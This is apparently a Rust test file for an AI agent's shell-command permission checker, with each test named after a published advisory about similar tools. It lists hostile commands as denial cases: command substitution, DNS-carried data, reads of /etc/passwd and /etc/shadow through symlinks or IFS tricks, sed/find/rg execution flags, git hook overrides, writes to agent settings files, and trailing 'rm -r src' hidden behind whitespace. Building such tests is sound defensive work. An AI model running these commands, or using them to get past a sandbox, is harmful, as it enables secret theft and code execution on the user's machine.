//! Each advisory of another tool that is about the text of a command, by its number.

use mab_exec::{Decision, Mode, Wanted, Workspace};

use super::{JUDGE, decided, denied};

#[test]
fn cve_2025_54794_path_that_shares_a_prefix_with_the_workspace_is_denied() {
    let home = tempfile::tempdir().unwrap();
    let home = home.path().canonicalize().unwrap();
    for name in ["space", "space-evil"] {
        std::fs::create_dir(home.join(name)).unwrap();
        std::fs::write(home.join(name).join("x"), "").unwrap();
    }
    let space = Workspace::open(&home.join("space")).unwrap();
    let decision =
        |path: String| JUDGE.judge(Mode::Safe, &Wanted::Text(format!("cat {path}")), Some(&space)).decision;
    let root = home.join("space").display().to_string();
    assert_eq!(decision(format!("{root}/x")), Decision::Allow);
    for path in
        [format!("{root}-evil/x"), format!("{root}/../space-evil/x"), format!("{root}/x/../../space-evil/x")]
    {
        assert_eq!(decision(path.clone()), Decision::Deny, "{path}");
    }
}

#[test]
fn cve_2025_54795_echo_with_substitution_is_denied() {
    denied(&[
        "echo $(id)",
        "echo \"$(id)\"",
        "echo `id`",
        "echo \"`id`\"",
        "echo x >> f",
        "echo \"\"; rm x",
        "echo $(echo '$(id)')",
    ]);
}

#[test]
fn cve_2025_55284_name_look_up_that_carries_data_is_denied() {
    denied(&[
        "ping -c1 x.example",
        "dig x.example",
        "nslookup x",
        "host x",
        "ping -c1 $(whoami).example",
        "getent hosts x",
    ]);
}

#[test]
fn cve_2025_58764_and_54558_rg_that_runs_a_program_is_denied() {
    denied(&[
        "rg --pre ./x p",
        "rg --pre=./x p",
        "rg --hostname-bin ./x p",
        "rg --hostname-bin=./x p",
        "rg -z p",
        "rg -uz p",
        "rg --search-zip p",
        "rg -nz p",
        "rg --pre-glob x p",
    ]);
}

#[test]
fn cve_2025_59041_git_identity_is_never_evaluated() {
    denied(&[
        "git config user.email '`id`'",
        "git config user.email \"$(id)\"",
        "git -c user.email=x commit -m x",
    ]);
}

#[test]
fn cve_2025_59828_yarn_waits_for_a_person_even_for_its_version() {
    for command in ["yarn --version", "yarn -v", "yarn test", "yarn"] {
        assert_eq!(decided(Mode::Restricted, command), Decision::Ask, "{command}");
        assert_eq!(decided(Mode::Safe, command), Decision::Deny, "{command}");
    }
}

#[test]
fn cve_2025_64755_sed_that_writes_or_executes_is_denied() {
    denied(&[
        "sed -n 'w out' f",
        "sed 's/x/y/w out' f",
        "sed 's/x/id/e' f",
        "sed '1e id' f",
        "sed -i s/a/b/ f",
        "sed -f s f",
        "sed -n '/a/W out' f",
        "sed 's/a/b/;w out' f",
        "sed -e p -e 'w out' f",
        "sed --expression='1e id' f",
        "sed -n '1!e' f",
        "sed -ne 's/a/b/gew' f",
    ]);
}

#[test]
fn cve_2026_25723_sed_behind_a_pipe_is_judged_as_before_one() {
    denied(&["echo x | sed 'w out'", "cat a | sed -i s/a/b/ f", "echo 'id' | sed 's/x/y/e'"]);
    assert_eq!(decided(Mode::Safe, "cat a | sed 's/a/b/g'"), Decision::Allow);
}

#[test]
fn cve_2025_66032_white_space_variables_and_short_or_shortened_options_are_denied() {
    denied(&[
        "cat$IFS/etc/passwd",
        "cat${IFS}/etc/passwd",
        "echo ${v@P}",
        "echo ${v:=$(id)}",
        "sort --comp=./x f",
        "sort -uoout f",
        "git ls-remote --upload-pa=./x .",
        "git fetch --upload-pa=./x",
        "ls | xargs -I{} sh -c {}",
        "man -Pid ls",
        "history -a x",
    ]);
}

#[test]
fn cve_2026_24053_clobbering_redirection_is_denied() {
    denied(&["echo x >| f", "echo x >|f", "ls>|f"]);
}

#[test]
fn cve_2026_24887_find_that_executes_or_writes_is_denied() {
    denied(&[
        "find . -exec id ';'",
        "find . -execdir id '{}' ';'",
        "find . -ok id ';'",
        "find . -okdir id ';'",
        "find . -delete",
        "find . -fprint x",
        "find . -fprint0 x",
        "find . -fprintf x y",
        "find . -fls x",
        "find . -name x -delete",
        "find . '(' -delete ')'",
        "find -files0-from x",
    ]);
}

#[test]
fn cve_2026_25722_cd_before_a_command_is_denied() {
    denied(&[
        "cd /",
        "cd src",
        "cd .. && ls",
        "cd .claude && ls",
        "pushd x",
        "ls; cd /; ls",
        "git -C .. status",
        "make -C ..",
        "env -C / ls",
    ]);
}

#[test]
fn cve_2026_25724_and_59829_link_that_leads_outside_is_denied() {
    let home = tempfile::tempdir().unwrap();
    let root = home.path().canonicalize().unwrap().join("space");
    std::fs::create_dir(&root).unwrap();
    std::os::unix::fs::symlink("/etc/shadow", root.join("link")).unwrap();
    std::os::unix::fs::symlink("/etc", root.join("folder")).unwrap();
    let space = Workspace::open(&root).unwrap();
    for command in
        ["cat link", "cat folder/passwd", "ls folder", "grep x link", "head -n1 ./link", "diff link link"]
    {
        let verdict = JUDGE.judge(Mode::Safe, &Wanted::Text(command.to_owned()), Some(&space));
        assert_eq!(verdict.decision, Decision::Deny, "{command}");
        assert!(verdict.reason.contains("outside the workspace"), "{}", verdict.reason);
    }
}

#[test]
fn cve_2026_25725_settings_that_do_not_exist_yet_may_not_be_made() {
    denied(&[
        "touch .claude/settings.json",
        "mkdir .claude",
        "cp x .mcp.json",
        "mv x .vscode/tasks.json",
        "touch .CLAUDE/settings.json",
        "cp a .git/hooks/post-commit",
        "touch ./.Git/config",
    ]);
}

#[test]
fn cve_2026_55607_worktree_is_never_made() {
    denied(&[
        "git worktree add x",
        "git worktree add .git x",
        "git worktree move a b",
        "git worktree remove x",
    ]);
}

#[test]
fn adversa_2026_04_02_more_commands_than_the_cap_are_denied_as_a_whole() {
    let many = |number: usize| vec!["true"; number].join(" && ");
    assert_eq!(decided(Mode::Safe, &many(32)), Decision::Allow);
    denied(&[&many(33), &many(50), &many(1000), &format!("{} && rm -r src", many(50))]);
}

#[test]
fn ghsa_v4xv_rqh3_w9mc_git_show_runs_nothing_of_the_repository() {
    for command in ["git show HEAD", "git log -p", "git diff", "git stash show -p"] {
        let verdict = JUDGE.judge(Mode::Restricted, &Wanted::Text(command.to_owned()), None);
        let plan = verdict.plan.unwrap();
        let argv = plan.commands().next().unwrap();
        for argument in [
            "--no-ext-diff",
            "--no-textconv",
            "core.fsmonitor=false",
            "core.hooksPath=/dev/null",
            "diff.external=",
            "gpg.program=false",
        ] {
            assert!(argv.arguments.iter().any(|given| given == argument), "{command} lacks {argument}");
        }
        for (name, value) in
            [("GIT_CONFIG_NOSYSTEM", "1"), ("GIT_CONFIG_GLOBAL", "/dev/null"), ("GIT_PAGER", "cat")]
        {
            assert!(
                argv.environment.contains(&(name.to_owned(), value.to_owned())),
                "{command} lacks {name}"
            );
        }
    }
    denied(&[
        "git show --ext-diff",
        "git show --textconv",
        "git show --output=x",
        "git show --show-signature",
        "git log --format=%G?",
    ]);
}

#[test]
fn cve_2025_54131_backticks_and_substitutions_are_denied_everywhere() {
    denied(&["ls `id`", "ls $(id)", "git log \"`id`\"", "cat <(id)", "cat a$(id)b", "ls 'a'`id`"]);
}

#[test]
fn cve_2026_22708_builtins_that_poison_the_environment_are_denied() {
    denied(&[
        "export PAGER=./x",
        "typeset -x A=b",
        "declare -x A=b",
        "readonly A=b",
        "local A=b",
        "unset PATH",
        "PAGER=./x git log",
        "ls && export A=b",
        "typeset -i x=1",
    ]);
}

#[test]
fn cve_2026_26268_git_never_runs_hooks() {
    for command in ["git commit -m x", "git checkout main", "git merge --no-edit x", "git push", "git status"]
    {
        let verdict = JUDGE.judge(Mode::Restricted, &Wanted::Text(command.to_owned()), None);
        let plan = verdict.plan.unwrap();
        let first = plan.commands().next().unwrap();
        assert!(first.arguments.iter().any(|given| given == "core.hooksPath=/dev/null"), "{command}");
    }
    denied(&[
        "git config core.hooksPath x",
        "git -c core.hooksPath=x commit -m x",
        "git hook run pre-commit",
        "git init --template=x",
    ]);
}

#[test]
fn cve_2026_50549_path_that_nobody_can_resolve_is_denied() {
    let home = tempfile::tempdir().unwrap();
    let root = home.path().canonicalize().unwrap().join("space");
    std::fs::create_dir(&root).unwrap();
    std::os::unix::fs::symlink("loop", root.join("loop")).unwrap();
    let space = Workspace::open(&root).unwrap();
    let verdict = JUDGE.judge(Mode::Safe, &Wanted::Text("cat loop/x".to_owned()), Some(&space));
    assert_eq!(verdict.decision, Decision::Deny);
}

#[test]
fn tracebit_tail_hidden_behind_white_space_is_denied() {
    let hidden = format!("grep install README.md{}; rm -r src", " ".repeat(2000));
    denied(&[&hidden, "ls\u{2003}; id", "ls \u{a0}", "ls\n\n\n\nrm -r src", "ls\r\nrm x", "ls \t; id"]);
}

#[test]
fn gemini_25935_text_that_does_not_parse_is_denied() {
    denied(&[
        "echo $[ x='a[$(touch FLAG)]', x ]",
        "echo ((",
        "ls 'a",
        "ls \"a",
        "ls )",
        "case x in x) id;; esac",
    ]);
}

#[test]
fn goose_cve_2026_72718_configuration_of_a_repository_is_overridden() {
    let verdict = super::judged(Mode::Restricted, "git status");
    let plan = verdict.plan.unwrap();
    let argv = plan.commands().next().unwrap();
    let at = argv.arguments.iter().position(|given| given == "core.fsmonitor=false").unwrap();
    let command = argv.arguments.iter().position(|given| given == "status").unwrap();
    assert!(at < command, "a configuration behind the command is none: {:?}", argv.arguments);
}

#[test]
fn cursor_2025_59944_names_in_another_case_are_the_same_names() {
    denied(&[
        "cat .ENV",
        "cat config/.Env.Local",
        "cat .GIT/config",
        "cat ID_RSA",
        "cat server.PEM",
        "cat .Ssh/config",
        "cat 'ﹳｅｎｖ/.ＥＮＶ'",
        "cat '．ｅｎｖ'",
        "cat .env.",
        "cat '.env '",
    ]);
}
